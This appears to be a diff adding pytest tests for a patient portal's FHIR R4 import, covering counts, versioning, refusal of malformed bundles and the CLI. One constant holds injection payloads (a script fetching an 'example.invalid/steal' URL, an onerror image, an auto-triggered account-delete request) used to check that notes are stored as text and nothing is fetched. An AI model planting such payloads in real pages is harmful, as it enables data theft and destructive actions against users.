@@ -1,0 +1,372 @@
+"""FHIR R4 import: counts, idempotence, versions, refusals, references, text from the EHR, the CLI."""
+
+from __future__ import annotations
+
+import base64
+import json
+import random
+import socket
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from sqlalchemy import func, select
+from sqlmodel import SQLModel
+
+from portal.cli import main
+from portal.fhir import importer
+from portal.models import ClinicalDocument, FhirResource, Observation, Patient
+from portal.services import records
+from tests.fhir_bundles import (
+    SAMPLE_BUNDLE,
+    SHARED,
+    distinct_counts,
+    patient_resources,
+    resources_in,
+    write_bundle,
+    write_ndjson,
+)
+
+
+@pytest.fixture
+def engine(app):
+    return app.state.engine
+
+
+@pytest.fixture
+def rng():
+    return random.Random()
+
+
+def held_counts(engine) -> dict[str, int]:
+    with engine.connect() as conn:
+        rows = conn.execute(
+            select(FhirResource.resource_type, func.count()).group_by(FhirResource.resource_type)
+        )
+        return {str(name): int(count) for name, count in rows}
+
+
+def table_rows(engine) -> dict[str, int]:
+    with engine.connect() as conn:
+        return {
+            table.name: conn.execute(select(func.count()).select_from(table)).scalar_one()
+            for table in SQLModel.metadata.sorted_tables
+        }
+
+
+def latest_update(engine):
+    with engine.connect() as conn:
+        return conn.execute(select(func.max(FhirResource.updated_at))).scalar_one()
+
+
+def run_cli(settings, *args: str):
+    env = {"DATABASE_URL": settings.database_url, "PORTAL_DATA_DIR": str(settings.data_dir)}
+    return CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)
+
+
+def source_counts(paths: list[Path]) -> dict[str, int]:
+    resources = [resource for path in paths for resource in resources_in(path)]
+    return dict(distinct_counts(resources))
+
+
+@pytest.mark.skipif(not SHARED.is_dir(), reason="the shared Synthea sample set is not on this machine")
+def test_all_sample_sets_import_with_counts_equal_to_the_source(engine) -> None:
+    files = importer.collect_files([SHARED / "synthea", SHARED / "uscore-bulk", SAMPLE_BUNDLE])
+
+    summary = importer.import_paths(engine, files)
+
+    assert summary.failed == []
+    assert held_counts(engine) == source_counts(files)
+
+
+def test_generated_bundles_import_with_counts_equal_to_the_source(engine, rng, tmp_path) -> None:
+    paths = [write_bundle(tmp_path / f"p{n}.json", patient_resources(rng)) for n in range(3)]
+
+    summary = importer.import_paths(engine, [tmp_path])
+
+    assert summary.failed == []
+    assert held_counts(engine) == source_counts(paths)
+
+
+def test_collection_bundle_imports_like_a_transaction(engine, rng, tmp_path) -> None:
+    path = write_bundle(tmp_path / "c.json", patient_resources(rng), bundle_type="collection")
+
+    summary = importer.import_paths(engine, [path])
+
+    assert summary.failed == []
+    assert held_counts(engine) == source_counts([path])
+
+
+def test_bulk_ndjson_files_import_in_dependency_order_across_files(engine, rng, tmp_path) -> None:
+    resources = patient_resources(rng) + patient_resources(rng)
+    paths = write_ndjson(tmp_path / "bulk", resources)
+
+    summary = importer.import_paths(engine, sorted(paths, reverse=True))
+
+    assert summary.failed == []
+    assert held_counts(engine) == dict(distinct_counts(resources))
+
+
+def test_importing_the_same_files_again_changes_nothing(engine, rng, tmp_path) -> None:
+    write_bundle(tmp_path / "a.json", patient_resources(rng))
+    write_ndjson(tmp_path / "bulk", patient_resources(rng))
+    importer.import_paths(engine, [tmp_path])
+    rows_before, updated_before = table_rows(engine), latest_update(engine)
+
+    summary = importer.import_paths(engine, [tmp_path])
+
+    assert summary.failed == []
+    assert sum(summary.total("created").values()) == sum(summary.total("updated").values()) == 0
+    assert table_rows(engine) == rows_before
+    assert latest_update(engine) == updated_before
+
+
+def _versioned_observation(resources, version: str, value: float) -> dict:
+    observation = next(r for r in resources if r["resourceType"] == "Observation" and "valueQuantity" in r)
+    observation["meta"] = {"versionId": version, "lastUpdated": f"2024-01-0{version}T00:00:00Z"}
+    observation["valueQuantity"]["value"] = value
+    return observation
+
+
+def test_a_newer_version_replaces_the_older(engine, session, rng, tmp_path) -> None:
+    resources = patient_resources(rng, visits=1)
+    observation = _versioned_observation(resources, "1", 5.0)
+    importer.import_paths(engine, [write_bundle(tmp_path / "v1.json", resources)])
+    public_id = session.scalars(
+        select(Observation.public_id).where(Observation.fhir_id == observation["id"])
+    ).one()
+    session.rollback()  # end the read: SQLite's BEGIN IMMEDIATE would hold the write lock
+    _versioned_observation(resources, "2", 7.5)
+
+    summary = importer.import_paths(engine, [write_bundle(tmp_path / "v2.json", resources)])
+
+    assert summary.total("updated") == {"Observation": 1}
+    stored = session.scalars(select(Observation).where(Observation.fhir_id == observation["id"])).one()
+    assert (stored.value, stored.public_id) == (7.5, public_id)
+    row = session.scalars(select(FhirResource).where(FhirResource.fhir_id == observation["id"])).one()
+    assert row.version_id == "2" and json.loads(row.resource_json)["valueQuantity"]["value"] == 7.5
+
+
+def test_an_older_version_does_not_replace_the_newer(engine, session, rng, tmp_path) -> None:
+    resources = patient_resources(rng, visits=1)
+    observation = _versioned_observation(resources, "3", 9.0)
+    importer.import_paths(engine, [write_bundle(tmp_path / "v3.json", resources)])
+    _versioned_observation(resources, "2", 1.0)
+
+    summary = importer.import_paths(engine, [write_bundle(tmp_path / "v2.json", resources)])
+
+    assert summary.total("updated") == {}
+    stored = session.scalars(select(Observation).where(Observation.fhir_id == observation["id"])).one()
+    assert stored.value == 9.0
+
+
+def _refused(engine, path: Path) -> importer.FileResult:
+    (result,) = importer.import_paths(engine, [path]).files
+    assert not result.ok
+    assert str(path) in result.message
+    return result
+
+
+def test_a_truncated_file_is_refused_whole(engine, rng, tmp_path) -> None:
+    good = write_bundle(tmp_path / "good.json", patient_resources(rng))
+    truncated = tmp_path / "truncated.json"
+    truncated.write_text(good.read_text()[: len(good.read_text()) // 2])
+
+    result = _refused(engine, truncated)
+
+    assert "not valid JSON" in result.error
+    assert held_counts(engine) == {}
+
+
+def test_a_bundle_with_a_dangling_reference_is_refused_whole(engine, rng, tmp_path) -> None:
+    resources = patient_resources(rng)
+    observation = next(r for r in resources if r["resourceType"] == "Observation")
+    observation["encounter"] = {"reference": "urn:uuid:00000000-0000-4000-8000-000000000000"}
+    index = resources.index(observation)
+    path = write_bundle(tmp_path / "dangling.json", resources)
+
+    result = _refused(engine, path)
+
+    assert f"entry {index} (Observation/{observation['id']})" in result.error
+    assert "points at nothing" in result.error
+    assert table_rows(engine)["patient"] == 0 and held_counts(engine) == {}
+
+
+@pytest.mark.parametrize(
+    "content",
+    ['{"hello": "world"}', "[1, 2, 3]", '{"resourceType": "Bundle", "entry": [{"request": {}}]}'],
+    ids=["object", "array", "bundle-without-resources"],
+)
+def test_json_that_is_not_fhir_is_refused(engine, tmp_path, content) -> None:
+    path = tmp_path / "other.json"
+    path.write_text(content)
+
+    result = _refused(engine, path)
+
+    assert "FHIR" in result.error
+    assert held_counts(engine) == {}
+
+
+def test_a_resource_that_fails_validation_refuses_the_file_and_names_the_entry(engine, rng, tmp_path) -> None:
+    resources = patient_resources(rng)
+    immunization = next(r for r in resources if r["resourceType"] == "Immunization")
+    immunization["occurrenceDateTime"] = "2020-13-45"
+    index = resources.index(immunization)
+
+    result = _refused(engine, write_bundle(tmp_path / "invalid.json", resources))
+
+    assert f"entry {index} (Immunization/{immunization['id']})" in result.error
+    assert "occurrenceDateTime" in result.error and "2020-13-45" not in result.error
+    assert held_counts(engine) == {}
+
+
+def test_an_ndjson_file_with_a_broken_line_is_refused_whole(engine, rng, tmp_path) -> None:
+    (patients,) = [p for p in write_ndjson(tmp_path, patient_resources(rng)) if p.name.startswith("Patient")]
+    patients.write_text(patients.read_text() + '{"resourceType": "Patient", "id": \n')
+
+    result = _refused(engine, patients)
+
+    assert result.error.startswith("line 2:")
+    assert held_counts(engine) == {}
+
+
+def test_references_to_resources_imported_earlier_resolve(engine, session, rng, tmp_path) -> None:
+    resources = patient_resources(rng, visits=1)
+    patient = next(r for r in resources if r["resourceType"] == "Patient")
+    importer.import_paths(engine, [write_bundle(tmp_path / "first.json", resources)])
+    later = {
+        "resourceType": "Condition",
+        "id": "later-condition",
+        "code": {"text": "Later problem"},
+        "subject": {"reference": f"Patient/{patient['id']}"},
+    }
+    path = tmp_path / "later.json"
+    path.write_text(json.dumps(later))
+
+    summary = importer.import_paths(engine, [path])
+
+    assert summary.failed == []
+    stored = session.scalars(select(FhirResource).where(FhirResource.fhir_id == "later-condition")).one()
+    owner = session.scalars(select(Patient).where(Patient.fhir_id == patient["id"])).one()
+    assert stored.patient_id == owner.id
+
+
+def test_unknown_resource_types_are_counted_and_reported_not_fatal(engine, rng, tmp_path, settings) -> None:
+    resources = patient_resources(rng, visits=1)
+    patient = next(r for r in resources if r["resourceType"] == "Patient")
+    goal = {
+        "resourceType": "Goal",
+        "id": "goal-1",
+        "lifecycleStatus": "active",
+        "description": {"text": "Walk daily"},
+        "subject": {"reference": f"urn:uuid:{patient['id']}"},
+    }
+    alien = {"resourceType": "SpaceshipReport", "id": "x1"}
+    path = write_bundle(tmp_path / "mixed.json", [*resources, goal, alien])
+
+    result = run_cli(settings, "import-fhir", str(path))
+
+    assert result.exit_code == 0
+    assert "Goal 1" in result.output and "SpaceshipReport 1" in result.output
+    assert held_counts(engine)["Goal"] == 1 and "SpaceshipReport" not in held_counts(engine)
+
+
+def test_cli_imports_good_files_refuses_bad_ones_and_exits_non_zero(engine, rng, tmp_path, settings) -> None:
+    write_bundle(tmp_path / "good.json", patient_resources(rng))
+    (tmp_path / "bad.json").write_text("{not json")
+
+    result = run_cli(settings, "import-fhir", str(tmp_path))
+
+    assert result.exit_code == 1
+    assert f"refused: {tmp_path / 'bad.json'}" in result.stderr
+    assert "files: 1 imported, 1 refused" in result.output
+    assert held_counts(engine)["Patient"] == 1
+
+
+def test_cli_prints_a_table_of_counts_per_type(rng, tmp_path, settings) -> None:
+    resources = patient_resources(rng, visits=2)
+    write_bundle(tmp_path / "p.json", resources)
+    observations = distinct_counts(resources)["Observation"]
+
+    result = run_cli(settings, "import-fhir", str(tmp_path))
+
+    assert result.exit_code == 0
+    row = next(line for line in result.output.splitlines() if line.startswith("Observation"))
+    assert row.split() == ["Observation", str(observations), str(observations), "0", "0"]
+
+
+MARKUP = (
+    '<script>fetch("http://example.invalid/steal")</script>'
+    '<img src="http://example.invalid/pixel.png" onerror="alert(1)">'
+    '<button hx-get="/account/delete" hx-trigger="load">x</button>'
+)
+
+
+@pytest.fixture
+def no_network(monkeypatch):
+    """Any attempt to open a connection fails the test."""
+    attempts = []
+
+    def refuse(*args, **kwargs):
+        attempts.append(args)
+        raise AssertionError("the importer tried to open a network connection")
+
+    monkeypatch.setattr(socket.socket, "connect", refuse)
+    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
+    monkeypatch.setattr(socket, "create_connection", refuse)
+    monkeypatch.setattr(socket, "getaddrinfo", refuse)
+    return attempts
+
+
+def test_markup_in_a_note_is_stored_as_text_and_nothing_is_fetched(
+    engine, session, rng, tmp_path, no_network
+) -> None:
+    resources = patient_resources(rng, visits=1)
+    note = next(r for r in resources if r["resourceType"] == "DocumentReference")
+    note["content"][0]["attachment"] = {
+        "contentType": "text/html",
+        "data": base64.b64encode(MARKUP.encode()).decode(),
+        "url": "http://example.invalid/note.html",
+    }
+    note["description"] = MARKUP
+    path = write_bundle(tmp_path / "markup.json", resources)
+
+    summary = importer.import_paths(engine, [path])
+
+    assert summary.failed == [] and no_network == []
+    stored = session.scalars(select(ClinicalDocument).where(ClinicalDocument.fhir_id == note["id"])).one()
+    assert stored.text == MARKUP
+
+
+def test_an_absolute_reference_is_never_fetched_and_refuses_the_file(
+    engine, rng, tmp_path, no_network
+) -> None:
+    resources = patient_resources(rng, visits=1)
+    condition = next(r for r in resources if r["resourceType"] == "Condition")
+    condition["subject"] = {"reference": "http://example.invalid/fhir/Patient/somebody"}
+
+    result = _refused(engine, write_bundle(tmp_path / "remote.json", resources))
+
+    assert "points at nothing" in result.error
+    assert no_network == []
+
+
+def test_confidential_flag_comes_from_meta_security(engine, session) -> None:
+    importer.import_paths(engine, [SAMPLE_BUNDLE])
+
+    flagged = session.scalars(select(Observation.code).where(Observation.confidential)).all()
+
+    assert flagged == ["5195-3"]
+
+
+def test_patient_columns_come_from_the_patient_resource(engine, session) -> None:
+    importer.import_paths(engine, [SAMPLE_BUNDLE])
+
+    patient = session.scalars(select(Patient)).one()
+
+    assert (patient.given_name, patient.family_name, str(patient.birth_date)) == (
+        "Mia Rose",
+        "Sample",
+        "2026-03-02",
+    )
+    assert records.resource_counts(session, patient.id)["Observation"] == 14
